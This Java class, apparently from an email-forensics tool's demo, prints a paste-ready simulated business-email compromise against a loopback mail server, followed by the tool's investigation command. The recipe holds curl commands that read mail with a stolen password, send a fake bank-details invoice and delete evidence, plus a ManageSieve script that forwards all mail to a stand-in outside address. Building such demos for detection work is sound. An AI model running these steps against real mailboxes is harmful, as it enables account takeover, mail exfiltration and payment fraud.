package dev.mailtrail.app.demo;

import dev.mailtrail.demo.DemoUsers;
import dev.mailtrail.demo.dovecot.DovecotDemoServer;

/**
 * The end of the banner: a business-email compromise to paste, played from a second loopback address so that the
 * records tell the attacker from alice, then the {@code mt scope} that finds it all. Plain logins on loopback, so
 * curl and Python need no certificate. Each command sits on lines of its own between {@link #BEGIN} and {@link
 * #END}, and the scope command after {@link #SCOPE_BEGIN}, so a test can run exactly what a newcomer pastes.
 */
final class AttackerRecipe {
    /** The attacker's address: any 127/8 address is this machine's own, and curl and Python can bind to it. */
    static final String ATTACKER_IP = "127.0.0.66";
    /** The message the attacker reads: INBOX UID 2. */
    static final int READ_UID = 2;
    /** The message the attacker deletes to hide a reply: INBOX UID 3. */
    static final int DELETE_UID = 3;

    static final String FORWARD_TO = "drop@outside.example";
    static final String SEND_SUBJECT = "Updated bank details for invoice INV-2026-0412";
    static final String BEGIN = "  # --- attacker recipe: paste from here ---";
    static final String END = "  # --- to here ---";
    /** The line before the scope command, which runs once the demo has flushed its reads. */
    static final String SCOPE_BEGIN = "  # --- scope the case ---";

    private AttackerRecipe() {}

    static String render(RunningDemo demo) {
        String user = DemoUsers.ALICE + ":" + DemoUsers.PASSWORD;
        String as = "--interface " + ATTACKER_IP + " -u " + user;
        int imap = demo.port("imap");
        StringBuilder out = new StringBuilder();
        out.append("\nPlay the attacker (alice's password, from ")
                .append(ATTACKER_IP)
                .append("): read, forward with a rule, send, delete; then scope the case:\n");
        out.append(BEGIN).append('\n');
        out.append(String.format(
                "  curl -s %s 'imap://%s:%d/INBOX;UID=%d' | head -5%n", as, DemoBanner.HOST, imap, READ_UID));
        if (demo.listens("managesieve")) {
            out.append(manageSieve(demo.port("managesieve")));
        } else if (demo.mailServer() instanceof DovecotDemoServer) {
            out.append("  # No inbox rules: Dovecot's ManageSieve is not installed (apt-get install")
                    .append(" dovecot-managesieved dovecot-sieve).\n");
        } else {
            out.append("  # Inbox rules (Sieve over ManageSieve) need mt demo --backend dovecot.\n");
        }
        out.append(String.format(
                "  printf 'From: %1$s\\r\\nTo: ap@northwind.example\\r\\nSubject: %2$s\\r\\n"
                        + "Message-ID: <recipe-%%s@demo.test>\\r\\n\\r\\nPlease pay to the new account from today.\\r\\n'"
                        + " \"$(date +%%s%%N)\" | curl -s %3$s smtp://%4$s:%5$d --mail-from %1$s"
                        + " --mail-rcpt ap@northwind.example --upload-file -%n",
                DemoUsers.ALICE, SEND_SUBJECT, as, DemoBanner.HOST, demo.port("submission")));
        // One connection (curl reuses it across --next), as a mail client deletes: it looks at the headers first, so
        // the session knows which message the UID is even where the server has no lookup account (GreenMail).
        String inbox = String.format("%s 'imap://%s:%d/INBOX'", as, DemoBanner.HOST, imap);
        out.append(String.format(
                "  curl -s %1$s -X 'UID FETCH %2$d (BODY.PEEK[HEADER.FIELDS (MESSAGE-ID SUBJECT)])'"
                        + " --next %1$s -X 'UID STORE %2$d +FLAGS (\\Deleted)' --next %1$s -X 'EXPUNGE'%n",
                inbox, DELETE_UID));
        out.append(END).append('\n');
        out.append("  Reads are recorded when their two-minute window closes: stop the demo (Ctrl-C) or wait, then\n");
        out.append(SCOPE_BEGIN).append('\n');
        out.append(String.format(
                "  ./mt scope --case %s --mailbox %s --attacker-ip %s --report /tmp/scope.html%n",
                demo.options().data().toAbsolutePath(), DemoUsers.ALICE, ATTACKER_IP));
        return out.toString();
    }

    /** A Python heredoc speaking ManageSieve (RFC 5804): log in, put a forwarding script, make it active. */
    private static String manageSieve(int port) {
        String script = "require [\"copy\"]; redirect :copy \"" + FORWARD_TO + "\";";
        return String.format(
                """
                  python3 - <<'EOF'
                import socket
                s = socket.create_connection(("127.0.0.1", %1$d), source_address=("%2$s", 0))
                f = s.makefile("rwb")
                def say(line):
                    f.write(line.encode() + b"\\r\\n"); f.flush()
                    while not (r := f.readline()).startswith((b"OK", b"NO", b"BYE")): pass
                    print(line.split(" ")[0], r.decode().strip())
                while not f.readline().startswith(b"OK"): pass
                say('AUTHENTICATE "PLAIN" "%3$s"')
                rule = '%4$s'
                say('PUTSCRIPT "forward" {%%d+}\\r\\n%%s' %% (len(rule), rule))
                say('SETACTIVE "forward"')
                say('LOGOUT')
                EOF
                """,
                port,
                ATTACKER_IP,
                java.util.Base64.getEncoder()
                        .encodeToString(("\0" + DemoUsers.ALICE + "\0" + DemoUsers.PASSWORD)
                                .getBytes(java.nio.charset.StandardCharsets.UTF_8)),
                script);
    }
}
